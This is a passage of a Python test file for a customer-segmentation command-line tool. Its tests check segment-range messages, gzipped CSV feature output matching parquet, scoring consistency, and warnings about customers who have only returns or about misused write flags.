    assert said in " ".join(res.out.split())
    assert "6 customers: segment counts of 2 to 5 searched instead of 2 to 10" in res.err
    res = cli("run", data, "--out", tmp_path / "b", "--k-max", "10", "--no-clv", "--json")
    assert res.code == 0, res.err
    assert said in json.loads(res.out)["explanation"]
    summary = json.loads((tmp_path / "b" / "summary.json").read_text())
    assert said in json.dumps(summary)
    # a search the customers allow says nothing of the kind
    res = cli("run", data, "--out", tmp_path / "c", "--k-max", "4", "--no-clv", "--json")
    assert res.code == 0 and "could be searched" not in json.loads(res.out)["explanation"]
    bad = cli("run", data, "--out", tmp_path / "d", "--k-min", "6", "--no-clv")
    assert bad.code == 2 and "Traceback" not in bad.err
    assert "cannot search 6 to 10 segments (k_range) of 6 customers" in bad.err
    assert "--k-min" in bad.err and "at most 5" in bad.err


def test_a_gzipped_feature_csv_is_written_and_scored(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """`features --out customers.csv.gz` was refused ("must end in .parquet, .pq,
    .csv"); it writes a gzipped CSV with its .meta.json, the same bytes each time, which
    `score` reads back as the feature table it is."""
    gz = tmp_path / "customers.csv.gz"
    for out in (gz, tmp_path / "customers.parquet"):
        r = cli("features", shop_csv, "--out", out, "--snapshot-date", "2011-12-10", "--json")
        assert r.code == 0, r.err
    first = gz.read_bytes()
    assert first[:2] == b"\x1f\x8b" and (tmp_path / "customers.csv.gz.meta.json").is_file()
    assert cli("features", shop_csv, "--out", gz, "--snapshot-date", "2011-12-10").code == 0
    assert gz.read_bytes() == first
    written = pd.read_csv(gz, dtype={"customer_id": str, "rfm_score": str})
    parquet = pd.read_parquet(tmp_path / "customers.parquet")
    assert written["customer_id"].tolist() == parquet["customer_id"].astype(str).tolist()
    assert written["rfm_score"].tolist() == parquet["rfm_score"].astype(str).tolist()
    for col in ("recency_days", "frequency", "monetary", "unique_products"):
        np.testing.assert_allclose(written[col], parquet[col].astype(float), rtol=1e-12)
    scored = {}
    for out in (gz, tmp_path / "customers.parquet"):
        dest = tmp_path / f"scored_{out.suffixes[0][1:]}.parquet"
        r = cli("score", shop_run, out, "--out", dest)
        assert r.code == 0, r.err
        scored[out.name] = pd.read_parquet(dest)
    a, b = scored.values()
    assert len(a) == len(b) > 0
    assert a["segment_id"].tolist() == b["segment_id"].tolist()


def test_score_names_customers_left_without_a_row_and_a_stray_write_table(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """A customer with returns only has no row: `run` said so, `score` dropped them
    without a word. `--write-table` without `--write-to` was ignored without a word."""
    lines = pd.read_csv(shop_csv, dtype=str)
    refund = lines.iloc[[0]].assign(InvoiceNo="C999999", CustomerID="99999", Quantity="-2")
    data = tmp_path / "with_refund.csv"
    pd.concat([lines, refund]).to_csv(data, index=False)
    out = tmp_path / "s.csv"
    res = cli("score", shop_run, data, "--out", out)
    assert res.code == 0, res.err
    assert "1 return line" in res.err and "of 1 customer with no purchase" in res.err
    assert "99999" not in pd.read_csv(out, dtype=str)["customer_id"].tolist()
    res = cli("score", shop_run, data, "--out", out, "--write-table", "crm.scores")
    assert res.code == 2 and "--write-table crm.scores applies to --write-to" in res.err
